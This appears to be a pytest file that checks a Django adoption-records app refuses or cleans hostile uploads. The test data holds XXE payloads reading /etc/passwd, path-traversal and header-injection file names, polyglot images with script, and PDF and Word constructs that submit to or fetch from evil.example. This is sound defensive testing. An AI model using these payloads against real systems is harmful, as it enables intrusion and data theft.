"""The fourteen families of hostile files that tests/adoption/test_uploads.py does not have (security T6).

A file is refused with a sentence, or what is kept of it is harmless.
"""

import io
import zipfile

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook
from openpyxl.comments import Comment
from PIL import Image, PngImagePlugin

from adoption import clock
from adoption.actions import documents
from adoption.errors import NotPossible
from adoption.models import Document, DocumentKind, DocumentVersion
from tests.adoption.test_uploads import PLACE, cleaned, pdf, picture, refused, repacked, sheet, word
from tests.factories.adoption import CaseFileFactory

SCRIPT = b"<script>alert(document.domain)</script>"
PHOTOGRAPH = DocumentKind.PHOTOGRAPH
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


# ---------------------------------------------------------------------------------------------------------------- names

NAMES = [
    *(
        "a.pdf\x00.exe",
        "../../etc/passwd.pdf",
        "..\\..\\boot.pdf",
        "C:\\fakepath\\a.pdf",
        "\u202efdp.exe.pdf",
        "a;b.pdf",
    ),
    *(
        "a" * 300 + ".pdf",
        "con.pdf",
        "nul.pdf",
        " .pdf",
        "a\r\nSet-Cookie: x.pdf",
        '"a".pdf',
        "<b>.pdf",
        "Hexham.pdf",
        "~.pdf",
    ),
]


@pytest.mark.parametrize("name", NAMES)
def test_nothing_of_a_files_name_reaches_the_disk_or_the_person_who_downloads_it(cast, name, signed_in):
    file = CaseFileFactory(agency=cast.ane, team=cast.north)
    facts = {"kind": DocumentKind.OTHER, "title": "A paper", "by": cast.asha, "at": clock.now()}
    upload = SimpleUploadedFile("a.pdf", pdf())
    upload._name = name  # as a client that keeps to no rules sends it
    try:
        kept = documents.add(file=file, upload=upload, **facts).versions.get()
    except NotPossible:
        assert not Document.rows.exists()
        return
    assert len(kept.stored.name.partition("/")[2]) == 32 + len(".pdf")
    answer = signed_in(cast.asha).get(f"/documents/versions/{kept.reference}/")
    assert answer["Content-Disposition"] == f'attachment; filename="other-{file.reference}-v1.pdf"'
    assert b"".join(answer.streaming_content).startswith(b"%PDF")
    for stranger in (cast.olu, cast.petra, cast.wes):
        assert signed_in(stranger).get(f"/documents/versions/{kept.reference}/").status_code == 404


@pytest.mark.parametrize(
    "name", ["a.pdf.exe", "a.exe", "a.pdf\x00.exe", "a.html", "a.svg", "a.docm", "a.xlsm", "a.zip", "a.eml"]
)
def test_only_the_last_ending_counts(name):
    upload = SimpleUploadedFile("a.pdf", pdf())
    upload._name = name
    with pytest.raises(NotPossible, match="one of these kinds"):
        documents.clean(upload, kind=DocumentKind.OTHER)


# ------------------------------------------------------------------------------------- pictures that are something else


def polyglots():
    """Pictures that are a page, a script, an archive or a paper as well."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("index.html", SCRIPT)
    jpeg, png = picture(), picture("PNG")
    return {
        "page after the picture": jpeg + SCRIPT,
        "page in its comment": picture(comment=SCRIPT),
        "page in a PNG": png + SCRIPT,
        "archive after the picture": jpeg + packed.getvalue(),
        "paper after the picture": jpeg + pdf(),
        "page in its profile": picture(icc_profile=SCRIPT * 40),
        "page in its data about data": picture(exif=b"Exif\0\0" + Image.Exif().tobytes()[6:], comment=SCRIPT),
        "page in WEBP": picture("WEBP", icc_profile=SCRIPT * 40),
    }


@pytest.mark.parametrize("what", polyglots())
def test_a_picture_that_is_something_else_too_comes_out_as_a_picture_alone(what):
    kept = cleaned("a.jpg", polyglots()[what], PHOTOGRAPH)
    for never in (b"<script", b"index.html", b"PK\x03\x04", b"%PDF", b"alert"):
        assert never not in kept.data
    assert Image.open(io.BytesIO(kept.data)).size == (60, 40)


@pytest.mark.parametrize(
    "data",
    [
        *(SCRIPT, b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", b"<?xml version='1.0'?><svg/>"),
        *(b"<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>", b"GIF89a/*" + SCRIPT, EICAR),
        *(b"\x89PNG\r\n\x1a\n" + SCRIPT, b"\xff\xd8\xff\xe0" + SCRIPT, b"RIFF\x10\0\0\0WEBP" + SCRIPT, b"", b"\xff"),
        *(b"BM" + b"\0" * 60, b"II*\0" + b"\0" * 60, b"\0\0\0\x18ftypheic" + b"\0" * 60, b"8BPS" + b"\0" * 60),
    ],
)
@pytest.mark.parametrize("name", ["a.jpg", "a.png", "a.webp"])
def test_what_only_begins_like_a_picture_is_refused(name, data):
    refused(name, data, PHOTOGRAPH)


def told_by(form):
    """Where it was taken, in whatever place the format has for that."""
    exif = Image.Exif()
    exif[0x010E] = PLACE.decode()
    exif.get_ifd(0x8825)[29] = PLACE.decode()
    more = {"exif": exif.tobytes(), "xmp": b"<x:xmpmeta>" + PLACE + b"</x:xmpmeta>", "icc_profile": PLACE * 20}
    if form == "PNG":
        words = PngImagePlugin.PngInfo()
        words.add_text("Location", PLACE.decode())
        words.add_itxt("XML:com.adobe.xmp", PLACE.decode())
        more = {"exif": exif.tobytes(), "pnginfo": words}
    return picture(form, **more)


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP"])
def test_the_place_is_taken_out_wherever_a_picture_keeps_it(form):
    data = told_by(form)
    assert PLACE in data
    kept = cleaned(f"a.{form.lower()}", data, PHOTOGRAPH)
    assert PLACE not in kept.data
    assert set(Image.open(io.BytesIO(kept.data)).info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"}


# --------------------------------------------------------------------------------------------------------------- papers


def acts(document):
    """What runs, sends or fetches, each where PDF allows it."""
    fetch = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example/take")
    script = pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.Stream(document, b"app.launchURL('evil.example')")
    )
    field = pikepdf.Dictionary(FT=pikepdf.Name.Tx, T="a", A=fetch, AA=pikepdf.Dictionary(K=script))
    document.Root.AcroForm = pikepdf.Dictionary(
        Fields=[document.make_indirect(field)], XFA=pikepdf.Stream(document, b"evil")
    )
    document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["x", script]))
    document.pages[0].Annots = pikepdf.Array(
        [pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(S=name, F="//evil.example/x"))
         for name in (pikepdf.Name.GoToR, pikepdf.Name.GoToE, pikepdf.Name.Launch, pikepdf.Name.ImportData)]
    )  # fmt: skip


def test_a_paper_neither_runs_nor_sends_nor_fetches():
    kept = cleaned("a.pdf", pdf(acts))
    with pikepdf.open(io.BytesIO(kept.data)) as document:
        out = io.BytesIO()
        document.save(out, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    for never in (b"JavaScript", b"SubmitForm", b"XFA", b"Launch", b"GoToR", b"GoToE", b"ImportData", b"evil"):
        assert never not in out.getvalue(), never


@pytest.mark.parametrize("before", [SCRIPT, b"<!doctype html>", b"MZ\x90\0", b"PK\x03\x04"])
def test_a_paper_that_begins_as_something_else_is_refused_or_written_anew(before):
    try:
        kept = cleaned("a.pdf", before + b"\n" + pdf())
    except NotPossible:
        return
    assert kept.data.startswith(b"%PDF")
    assert before not in kept.data


@pytest.mark.parametrize(
    "data", [b"%", b"%PDF-1.7", b"%PDF-1.7\ntrailer<</Root 1 0 R>>", pdf()[:-40] + b"\0" * 9, EICAR, b"%PDF-" + EICAR]
)
def test_a_paper_that_ends_too_soon_is_refused_or_mended(data):
    try:
        kept = cleaned("a.pdf", data)
    except NotPossible:
        return
    assert b"EICAR" not in kept.data


def relation(kind, target):
    return (
        f'<Relationships xmlns="{RELS}"><Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    )


@pytest.mark.parametrize(
    ("part", "content"),
    [
        ("word/_rels/settings.xml.rels", relation("attachedTemplate", "https://evil.example/t.dotm")),
        ("word/_rels/document.xml.rels", relation("image", "https://evil.example/seen.png")),
        ("word/_rels/document.xml.rels", relation("frame", "//evil.example/share")),
        ("word/_rels/document.xml.rels", relation("hyperlink", "file://evil.example/share")),
        ("word/_rels/document.xml.rels", relation("hyperlink", "ms-msdt:/id")),
        ("word/_rels/document.xml.rels", relation("oleObject", "https://evil.example/x")),
        ("word/embeddings/oleObject1.bin", "anything"),
        ("word/embeddings/inner.docx", word()),
        ("xl/externalLinks/externalLink1.xml", "<ddeLink/>"),
        ("word/vbaProject.bin", "macro"),
        ("word/activeX/activeX1.xml", "<x/>"),
        ("run.js", "alert(1)"),
        ("/etc/passwd", "x"),
        ("word/_rels/settings.xml.rels", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    ],
)
def test_an_office_file_that_fetches_embeds_or_runs_is_refused(part, content):
    refused("a.docx", repacked(word(), **{part: content}))


@pytest.mark.parametrize("target", ["https://www.gov.uk/adoption", "mailto:panel@example.test"])
def test_a_link_that_somebody_may_click_is_kept(target):
    data = repacked(word(), **{"word/_rels/document.xml.rels": relation("hyperlink", target)})
    assert cleaned("a.docx", data).suffix == "docx"


def test_a_part_that_points_elsewhere_in_the_archive_comes_out_as_a_plain_part():
    """A symbolic link in a zip is a part with a flag; the flag is not kept."""
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a") as packed:
        link = zipfile.ZipInfo("word/link")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        packed.writestr(link, "/etc/passwd")
    with zipfile.ZipFile(io.BytesIO(cleaned("a.docx", out.getvalue()).data)) as kept:
        assert all(part.external_attr >> 16 & 0o170000 != 0o120000 for part in kept.infolist())


def test_a_part_that_lies_about_its_size_is_refused():
    data = bytearray(repacked(sheet(), **{"xl/more.xml": b"a" * 5_000}))
    directory = data.rfind(b"PK\x01\x02", 0, data.rfind(b"xl/more.xml"))
    data[directory + 24 : directory + 28] = (10).to_bytes(4, "little")
    refused("a.xlsx", bytes(data))


@pytest.mark.parametrize("data", [b"PK\x05\x06" + b"\0" * 18, b"P", EICAR, word()[:-30], word()[: len(word()) // 2]])
def test_an_archive_that_ends_too_soon_is_refused(data):
    refused("a.docx", data)


def test_text_is_text_and_is_never_sent_as_a_page(cast, signed_in):
    file = CaseFileFactory(agency=cast.ane, team=cast.north)
    facts = {"kind": DocumentKind.OTHER, "title": "A paper", "by": cast.asha, "at": clock.now()}
    kept = documents.add(file=file, upload=SimpleUploadedFile("a.txt", SCRIPT), **facts).versions.get()
    answer = signed_in(cast.asha).get(f"/documents/versions/{kept.reference}/")
    assert b"".join(answer.streaming_content) == SCRIPT
    assert answer["Content-Type"] == "text/plain; charset=utf-8"
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Disposition"].startswith("attachment")
    assert answer["Content-Security-Policy"].startswith("sandbox")


def test_the_same_file_fifty_times_is_fifty_papers(cast):
    file, data = CaseFileFactory(agency=cast.ane, team=cast.north), pdf()
    facts = {"kind": DocumentKind.OTHER, "title": "A paper", "by": cast.asha, "at": clock.now()}
    for _ in range(50):
        documents.add(file=file, upload=SimpleUploadedFile("a.pdf", data), **facts)
    names = set(DocumentVersion.rows.values_list("stored", flat=True))
    assert len(names) == 50


def test_an_upload_broken_off_half_way_leaves_nothing(cast, signed_in):
    file = CaseFileFactory(agency=cast.ane, team=cast.north)
    body = b'--x\r\nContent-Disposition: form-data; name="upload"; filename="a.pdf"\r\n\r\n' + pdf()[:200]
    kind = "multipart/form-data; boundary=x"
    answer = signed_in(cast.asha).generic("POST", f"/files/{file.reference}/documents/add/", body, content_type=kind)
    assert answer.status_code in (404, 422)
    assert not Document.rows.exists()


# ------------------------------------------------------------------------------------- what was taken out or said aside

MAIN = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
BODY = f'<w:document xmlns:w="{MAIN}"><w:body>{{}}</w:body></w:document>'
ASHA = 'w:id="1" w:author="Asha Example" w:date="2026-03-09T10:00:00Z"'


@pytest.mark.parametrize(
    "change",
    [
        f"<w:ins {ASHA}><w:r><w:t>is settled</w:t></w:r></w:ins>",
        f"<w:del {ASHA}><w:r><w:delText>lives in Hexham</w:delText></w:r></w:del>",
        f"<w:moveFrom {ASHA}/>",
        f"<w:moveTo {ASHA}/>",
        f"<w:r><w:rPr><w:rPrChange {ASHA}><w:rPr/></w:rPrChange></w:rPr></w:r>",
        f"<w:pPr><w:pPrChange {ASHA}/></w:pPr>",
        f"<w:sectPr><w:sectPrChange {ASHA}/></w:sectPr>",
        f"<w:tbl><w:tr><w:trPr><w:ins {ASHA}/></w:trPr></w:tr></w:tbl>",
        f"<w:tc><w:tcPr><w:cellDel {ASHA}/></w:tcPr></w:tc>",
    ],
)
@pytest.mark.parametrize("part", ["word/document.xml", "word/header1.xml", "word/footnotes.xml"])
def test_tracked_changes_are_refused_with_how_to_accept_them(part, change):
    """What was taken out is still in the file, and the next reader may be a birth parent."""
    refused("a.docx", repacked(word(), **{part: BODY.format(change)}), says="Accept All Changes")


def test_tracked_changes_are_found_in_any_spelling_of_the_file():
    data = f"\ufeff{BODY.format(f'<w:del {ASHA}/>')}".encode("utf-16-le")
    refused("a.docx", repacked(word(), **{"word/document.xml": data}), says="Accept All Changes")
    other = BODY.replace("w:", "x:").format("<x:del/>")
    refused("a.docx", repacked(word(), **{"word/document.xml": other}), says="Accept All Changes")


def test_comments_in_a_word_file_are_refused_with_how_to_delete_them():
    said = f"<w:comments><w:comment {ASHA}><w:p>Too much about Hexham</w:p></w:comment></w:comments>"
    refused("a.docx", repacked(word(), **{"word/comments.xml": said}), says="Delete All Comments")


def test_comments_in_a_sheet_are_refused_and_so_are_its_revisions():
    book = Workbook()
    book.active["A1"].comment = Comment("Too much", "Asha Example")
    out = io.BytesIO()
    book.save(out)
    refused("a.xlsx", out.getvalue(), says="comments and notes")
    threaded = {"xl/threadedComments/threadedComment1.xml": "<ThreadedComments><threadedComment/></ThreadedComments>"}
    refused("a.xlsx", repacked(sheet(), **threaded), says="comments and notes")
    refused("a.xlsx", repacked(sheet(), **{"xl/revisions/revisionLog1.xml": "<revisions/>"}), says="unshare")


def test_a_finished_text_is_taken_and_names_of_former_commentators_go():
    """Word keeps them when the comments are gone; an insertion point or a word like “deleted” is no change."""
    body = BODY.format("<w:p><w:r><w:instrText>PAGE</w:instrText><w:t>ins &lt;del&gt; deleted</w:t></w:r></w:p>")
    parts = {
        "word/document.xml": body,
        "word/comments.xml": "<w:comments></w:comments>",
        "word/people.xml": '<w15:people><w15:person w15:author="Asha Example"/></w15:people>',
    }
    with zipfile.ZipFile(io.BytesIO(cleaned("a.docx", repacked(word(), **parts)).data)) as kept:
        assert kept.read("word/document.xml").decode() == body
        assert b"Asha" not in kept.read("word/people.xml")
